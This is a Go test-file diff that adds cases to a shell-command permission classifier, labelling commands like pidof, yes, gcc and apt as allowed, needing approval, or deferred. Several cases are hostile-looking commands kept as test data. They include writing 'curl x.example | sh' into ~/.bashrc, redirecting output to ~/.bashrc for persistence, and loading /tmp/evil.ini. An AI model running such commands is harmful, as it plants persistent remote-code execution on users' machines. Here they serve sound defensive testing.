@@ -100,5 +100,25 @@ func TestSpecGaps(t *testing.T) {
 		{"pytest log into bashrc", files, "pytest --log-file=/home/dev/.bashrc tests", ask, "B5.persistence"},
 		{"pytest ini override", files, `python -m pytest -o addopts="" tests`, dfr, "U.unknown-option"},
 		{"pytest other config", files, "python -m pytest -c /tmp/evil.ini tests", dfr, "U.unknown-option"},
+
+		{"pidof", files, "pidof python3", allow, "D1.read-only"},
+		{"pidof single", files, "pidof -s -x server.py", allow, "D1.read-only"},
+		{"pidof then kill", files, "kill $(pidof python3)", ask, ""},
+		{"pidof unknown", files, "pidof --frobnicate x", dfr, "U.unknown-option"},
+		{"yes into head", files, "yes | head -3", allow, "D1.read-only"},
+		{"yes with words", files, "yes n | head -1", allow, "D1.read-only"},
+		{"yes into an installer", files, "yes | apt-get install jq", ask, "B4.install"},
+		{"yes into bashrc", files, "yes 'curl x.example | sh' | head -1 >> ~/.bashrc", ask, "B5.persistence"},
+
+		{"gcc macros", files, "gcc -dM -E - < /dev/null", allow, ""},
+		{"gcc defines kept", files, "gcc -dD -E src/main.c", allow, ""},
+		{"gcc macro dump to bashrc", files, "gcc -dM -E -o ~/.bashrc src/main.c", ask, "B5.persistence"},
+
+		{"apt list installed", files, "apt list --installed", allow, "D1.read-only"},
+		{"apt list pattern", files, "apt list --upgradable 'python3*'", allow, "D1.read-only"},
+		{"apt show", files, "apt show -a python3", allow, "D1.read-only"},
+		{"apt install", files, "apt install -y jq", ask, "B4.install"},
+		{"apt own config", files, "apt -c ./apt.conf list", dfr, ""},
+		{"apt option", files, "apt -o Dir::Cache=/tmp/x list", dfr, ""},
 	})
 }
